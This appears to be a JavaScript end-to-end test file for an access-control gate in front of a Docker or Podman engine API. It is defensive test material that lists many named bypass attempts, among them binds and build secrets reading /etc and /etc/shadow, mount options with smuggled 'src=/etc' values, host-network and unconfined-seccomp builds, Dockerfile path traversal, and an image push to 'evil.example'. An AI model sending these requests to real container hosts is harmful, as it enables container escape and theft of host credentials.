// test/e2e/lib/docker_attempts.mjs - ways around a gate that knows the Docker Engine's reading alone:
// most are Podman's. They are tried with rights that have no `when`, so that each shows its own guard.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';

const LIB = 'docker.io/library';
export const plainRole = { allow: [
    'prod:containers.create|containers.exec|containers.start|containers.wait|containers.logs|containers.remove|containers.inspect|containers.commit|containers.archive.write:web-*',
    `prod:images.build|images.import|images.pull|images.push|images.tag|images.inspect:${LIB}/**`,
    'prod:networks.create|networks.connect|volumes.create|volumes.remove:*',
    'prod:system.events|system.info|containers.list:-',
] };
// The same, where a `when` speaks of some options.
export const optionsRole = { allow: [
    { right: 'prod:containers.create:web-*', when: { options: ['LogConfig=path', 'Env=HOME', 'Annotations=a.b'], network: ['none', 'slirp4netns'] } },
    { right: 'prod:images.import:**', when: { options: ['Import=url'] } },
    { right: 'prod:networks.create:*', when: { options: ['Options=parent'] } },
] };

export const create = (host, more = {}) => ({ Image: 'bb:1', Cmd: ['/bin/true'], HostConfig: { NetworkMode: 'none', ...host }, ...more });
const made = (host, more) => ['POST', '/containers/create?name=web-x', create(host, more)];
const mount = (one) => made({ Mounts: [{ Type: 'volume', Source: 'v', Target: '/h', ...one }] });
const bind = (text) => made({ Binds: [text] });
const build = (query) => ['POST', `/build?t=bb:9&${query}`, undefined];
const json = (value) => encodeURIComponent(JSON.stringify(value));

export const plainAttempts = {
    'a bind of the directory above': bind('..:/h'),
    'a bind of this directory': bind('.:/h'),
    'a bind of a hidden name': bind('.ssh:/h'),
    'a bind without a target': bind('/etc:'),
    'a bind of nothing': bind(':/h'),
    'a bind with a target that is none': bind('v:h'),
    'an overlay': bind('v:/h:O'),
    'an overlay with a directory of the host\'s': bind('v:/h:O,upperdir=/tmp/up,workdir=/tmp/work'),
    'a bind that changes the owner': bind('v:/h:U'),
    'a bind with two modes': bind('v:/h:ro,rw'),
    'a bind with an escape': bind('v\\:x:/h'),
    'a volume that climbs': mount({ Source: '..' }),
    'a volume whose place holds a source': mount({ Target: '/h,src=/etc' }),
    'a volume whose name holds a source': mount({ Source: 'v,src=/etc' }),
    'a volume with a line break': mount({ Target: '/h\nsrc=/etc' }),
    'a volume with a quote': mount({ Target: '/h","src=/etc' }),
    'a type that holds a source': mount({ Type: 'volume,src=/etc' }),
    'a consistency that holds a source': mount({ Consistency: 'cached,src=/etc' }),
    'a propagation that holds a source': mount({ BindOptions: { Propagation: 'rprivate,src=/etc' } }),
    'an unknown option of a bind': mount({ BindOptions: { Future: true } }),
    'an unknown option of memory': mount({ Type: 'tmpfs', Source: '', TmpfsOptions: { Future: 1 } }),
    'a subpath that holds a source': mount({ VolumeOptions: { Subpath: 'a,src=/etc' } }),
    'memory that is a bind': made({ Tmpfs: { '/h': 'rw,bind' } }),
    'memory with a place of two parts': made({ Tmpfs: { '/h:bind': '' } }),
    'a log into a file': made({ LogConfig: { Type: 'json-file', Config: { path: '/tmp/log' } } }),
    'a log of the usual kind into a file': made({ LogConfig: { Type: '', Config: { path: '/tmp/log' } } }),
    'a network by a path': made({ NetworkMode: 'ns:/proc/1/ns/net' }),
    'the network of a user\'s': made({ NetworkMode: 'slirp4netns:allow_host_loopback=true' }),
    'the same without an option': made({ NetworkMode: 'slirp4netns' }),
    'pasta': made({ NetworkMode: 'pasta' }),
    'the network of a pod': made({ NetworkMode: 'pod' }),
    'a private network': made({ NetworkMode: 'private' }),
    'two networks in one': made({ NetworkMode: 'a,b' }),
    'another\'s network': made({ NetworkMode: 'container:db-1' }),
    'the host\'s network': made({ NetworkMode: 'host' }),
    'the host\'s network beside': made({}, { NetworkingConfig: { EndpointsConfig: { host: {} } } }),
    'a network by an id under another name': made({}, { NetworkingConfig: { EndpointsConfig: { a: { NetworkID: 'b' } } } }),
    'kernel settings of an interface': made({}, { NetworkingConfig: { EndpointsConfig: { a: { DriverOpts: { 'com.docker.network.endpoint.sysctls': 'x' } } } } }),
    'all of the service\'s environment': made({}, { Env: ['*'] }),
    'one of its variables': made({}, { Env: ['HOME'] }),
    'the same in an exec': ['POST', '/containers/web-1/exec', { Cmd: ['env'], Env: ['*'] }],
    'a file for the id': made({ ContainerIDFile: '/tmp/id' }),
    'an annotation': made({ Annotations: { 'run.oci.hooks.stdout': '/tmp/x' } }),
    'a storage option': made({ StorageOpt: { 'overlay.mount_program': '/tmp/x' } }),
    'a label of a unit': made({}, { Labels: { PODMAN_SYSTEMD_UNIT: 'ssh.service' } }),
    'a device of two': made({ Devices: [{ PathOnHost: '/dev/mem:/../null', PathInContainer: '/dev/null', CgroupPermissions: 'rwm' }] }),
    'a health check of one word': made({}, { Healthcheck: { Test: ['id'] } }),
    'an entrypoint in one word': made({}, { Entrypoint: ['["/bin/sh","-c","id"]'] }),
    'a name in another case': ['POST', '/containers/create?name=web-x&Name=db-x', create({})],
    'a name in another case alone': ['POST', '/containers/create?NAME=web-x', create({})],
    'an unknown parameter of create': ['POST', '/containers/create?name=web-x&future=1', create({})],
    'an unknown parameter of exec': ['POST', '/containers/web-1/exec?privileged=1', { Cmd: ['id'] }],
    'Podman\'s API behind the query': ['GET', '/events?filters=%7B/libpod/', undefined],
    'Podman\'s API as an image': ['GET', '/images/libpod/x/json', undefined],
    'a file renamed on its way': ['PUT', '/containers/web-1/archive?path=/&rename=%7B%22a%22%3A%22b%22%7D', undefined],
    'a build in a chroot': build('isolation=chroot'),
    'a build with a volume': build('volume=/etc:/h'),
    'a build with volumes': build('volumes=/etc:/h'),
    'a build with another context': build(`additionalbuildcontexts=${json({ x: 'localpath:/etc' })}`),
    'a build with the host\'s secrets': build(`secrets=${json(['id=s,src=/etc/shadow'])}`),
    'a build in the host\'s namespaces': build(`nsoptions=${json([{ Name: 'network', Host: true }])}`),
    'a build with capabilities': build('addcaps=ALL'),
    'a build with devices': build('devices=/dev/mem'),
    'a build without seccomp': build('seccomp=unconfined'),
    'a build with labels of its own': build('labelopts=disable'),
    'a build with another users\' map': build('idmappingoptions=%7B%7D'),
    'a build with security options': build('securityopt=x'),
    'a build that writes elsewhere': build('outputs=type=local,dest=/tmp/x'),
    'a build from a URL': build('remote=http://127.0.0.1:1/x'),
    'a build in the host\'s network': build('networkmode=host'),
    'a build in another\'s network': build('networkmode=container:db-1'),
    'a Dockerfile outside': build('dockerfile=../../etc/passwd'),
    'a Dockerfile outside in a list': build(`dockerfile=${json(['../../etc/passwd'])}`),
    'an absolute Dockerfile': build('dockerfile=/etc/passwd'),
    'a parameter of a build in another case': build('REMOTE=http://127.0.0.1:1/x'),
    'an import of a file': ['POST', '/images/create?fromSrc=/etc/passwd&repo=bb&tag=9', undefined],
    'an import of a file by URL': ['POST', '/images/create?fromSrc=file:///etc/passwd&repo=bb&tag=9', undefined],
    'an import from a URL': ['POST', '/images/create?fromSrc=http://127.0.0.1:1/x&repo=bb&tag=9', undefined],
    'a pull without a check': ['POST', '/images/create?fromImage=bb&tag=9&tlsVerify=false', undefined],
    'a push to elsewhere': ['POST', '/images/bb:1/push?destination=evil.example/x', undefined],
    'a commit of another form': ['POST', '/commit?container=web-1&repo=bb&tag=9&format=oci', undefined],
    'a network with an option': ['POST', '/networks/create', { Name: 'n1', Driver: 'bridge', Options: { parent: 'eth0' } }],
    'a network from another': ['POST', '/networks/create', { Name: 'n1', ConfigFrom: { Network: 'x' } }],
    'a network with another\'s addresses': ['POST', '/networks/create', { Name: 'n1', IPAM: { Driver: 'dhcp' } }],
};

// What stays allowed without a `when`, each beside something that is refused.
export const plainAllowed = {
    'volumes by name': { Binds: ['v1:/a:ro,z', 'v1:/b:nocopy', '/c'], Mounts: [{ Type: 'volume', Source: 'v1', Target: '/d', ReadOnly: true }] },
    'memory': { Tmpfs: { '/h': 'rw,noexec,size=1m' }, Mounts: [{ Type: 'tmpfs', Target: '/t', TmpfsOptions: { SizeBytes: 65536 } }] },
    'a log of a size': { LogConfig: { Type: 'json-file', Config: { 'max-size': '1m' } } },
};

// Through an engine with a token of each role; call: (token, method, path, body) → {status, body}.
export async function allowedBeside({ call, plain, options }) {
    for (const [name, host] of Object.entries(plainAllowed)) {
        const { status, body } = await call(plain, 'POST', '/v1.41/containers/create?name=web-ok', create(host, { Env: ['A=b'], Labels: { a: 'b' } }));
        assert.equal(status, 201, `${name}: ${body}`);
        assert.equal((await call(plain, 'DELETE', '/v1.41/containers/web-ok?v=1&force=1')).status, 204);
    }
    /* The engine may have its own opinion of these: they come to it. */
    for (const [path, body] of [
        ['/containers/create?name=web-ok', create({ LogConfig: { Type: 'json-file', Config: { path: '/nowhere/x' } }, NetworkMode: 'nowhere' })],
        ['/images/create?fromSrc=http://127.0.0.1:1/x&repo=bb&tag=9'],
    ]) {
        const refused = await call(plain, 'POST', `/v1.41${path}`, body);
        assert.equal(refused.status, 403, refused.body);
        assert.match(refused.body, /option|LogConfig|Import/);
    }
    const { body } = await call(options, 'POST', '/v1.41/images/create?fromSrc=http://127.0.0.1:1/x&repo=bb&tag=9');
    assert.doesNotMatch(body, /writ: /);
    const env = await call(options, 'POST', '/v1.41/containers/create?name=web-ok', create({}, { Env: ['HOME'] }));
    assert.equal(env.status, 201, env.body);
    assert.equal((await call(plain, 'DELETE', '/v1.41/containers/web-ok')).status, 204);
}

// `docker build` and `docker import` as they come; cli: (token, ...args) → {code, out, err}.
export async function buildsAndImports(cli, plain) {
    const place = mkdtempSync(join(tmpdir(), 'writ-build-'));
    writeFileSync(join(place, 'Dockerfile'), 'FROM bb:1\nLABEL a=b\n');
    execFileSync('tar', ['-C', place, '-cf', join(place, 'x.tar'), 'Dockerfile']);
    const built = await cli(plain, 'build', '-t', 'bb:8', '--build-arg', 'A=b', place);
    assert.equal(built.code, 0, built.err);
    const imported = await cli(plain, 'import', join(place, 'x.tar'), 'bb:7');
    assert.equal(imported.code, 0, imported.err);
    rmSync(place, { recursive: true });
}
